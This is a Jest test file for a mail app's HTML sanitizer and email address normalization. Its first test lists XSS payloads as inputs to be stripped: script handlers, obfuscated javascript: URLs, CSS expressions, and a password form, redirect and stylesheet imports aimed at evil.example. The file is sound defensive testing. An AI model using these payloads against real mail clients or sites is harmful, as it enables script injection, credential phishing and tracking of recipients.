import { describe, expect, it } from '@jest/globals';
import { normalizeAddress, normalizeAddresses } from '../addresses.ts';
import { htmlToText, sanitizeMailHtml } from '../mail-html.ts';

describe('mail bodies', () => {
  it.each([
    ['<img src=x onerror="alert(1)">', /onerror|<img/],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', /javascript/i],
    ['<a href="java&#x09;script:alert(1)">x</a>', /script:/i],
    ['<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
    ['<svg><script>alert(1)</script></svg>', /svg|script|alert/],
    ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', /math|javascript/],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /iframe|srcdoc|alert/],
    ['<object data="x.swf"></object><embed src="x.swf">', /object|embed/],
    ['<form action="https://evil.example"><input name="pw"></form>', /form|input/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /meta|refresh/],
    ['<base href="https://evil.example/">', /base/],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', /link|stylesheet/],
    ['<p style="background:url(javascript:alert(1))">x</p>', /url|javascript/],
    ['<p style="width:expression(alert(1))">x</p>', /expression/],
    ['<img src="//evil.example/pixel.gif">', /evil/],
    ['<img src="http://tracker.example/open.gif">', /tracker/],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', /svg/],
    ['<p onclick="steal()" onmouseover="steal()">x</p>', /on(click|mouseover)|steal/],
    ['<style>@import "https://evil.example/x.css";</style><p>x</p>', /import|evil/],
  ])('removes what could run or call home: %s', (html, forbidden) => {
    expect(sanitizeMailHtml(html)).not.toMatch(forbidden);
  });

  it('keeps what a mail needs to read well', () => {
    const html =
      '<table cellpadding="4" border="0"><tr><td style="font-family:Calibri, sans-serif;font-size:11pt;color:#1f497d">Grüße</td></tr></table>' +
      '<p><a href="mailto:anna@kunde.de">anna@kunde.de</a> <a href="tel:+49301234">Anruf</a></p>' +
      '<img src="cid:image001.png@01DA" width="120"><img src="https://cdn.kunde.de/logo.png" alt="Logo">' +
      '<img src="data:image/png;base64,iVBORw0KGgo=">';
    const clean = sanitizeMailHtml(html);
    expect(clean).toContain('<td style="font-family:Calibri, sans-serif;font-size:11pt;color:#1f497d">Grüße</td>');
    expect(clean).toContain('href="mailto:anna@kunde.de"');
    expect(clean).toContain('href="tel:+49301234"');
    expect(clean).toContain('src="cid:image001.png@01DA" width="120"');
    expect(clean).toContain('src="https://cdn.kunde.de/logo.png"');
    expect(clean).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('turns HTML into readable text for search', () => {
    expect(
      htmlToText(
        '<head><title>T</title><style>p{}</style></head><p>Sehr&nbsp;geehrte Frau M&uuml;ller,</p><p>Preis: 5&nbsp;&euro; &amp; mehr&#33;</p><table><tr><td>A</td><td>B</td></tr></table>',
      ),
    ).toBe('Sehr geehrte Frau Müller,\nPreis: 5 € & mehr!\nA B');
  });
});

describe('mail addresses', () => {
  it('splits off display names and lower-cases addresses', () => {
    expect(normalizeAddress({ address: 'Anna Müller <ANNA@X.de>' })).toEqual({
      address: 'anna@x.de',
      name: 'Anna Müller',
    });
    expect(normalizeAddress({ address: '"Müller, Anna" <Anna@X.DE>' })).toEqual({
      address: 'anna@x.de',
      name: 'Müller, Anna',
    });
    expect(normalizeAddress({ address: ' <Anna@X.DE> ' })).toEqual({ address: 'anna@x.de', name: null });
    expect(normalizeAddress({ address: 'MAILTO:Anna@X.DE', name: 'anna@x.de' })).toEqual({
      address: 'anna@x.de',
      name: null,
    });
    expect(normalizeAddress({ address: 'anna@x.de <ANNA@X.DE>', name: 'Anna' })).toEqual({
      address: 'anna@x.de',
      name: 'Anna',
    });
  });

  it('lists each address once', () => {
    expect(normalizeAddresses([{ address: 'A@x.de' }, { address: 'Anna <a@X.DE>' }, { address: 'b@x.de' }])).toEqual([
      { address: 'a@x.de', name: null },
      { address: 'b@x.de', name: null },
    ]);
  });
});
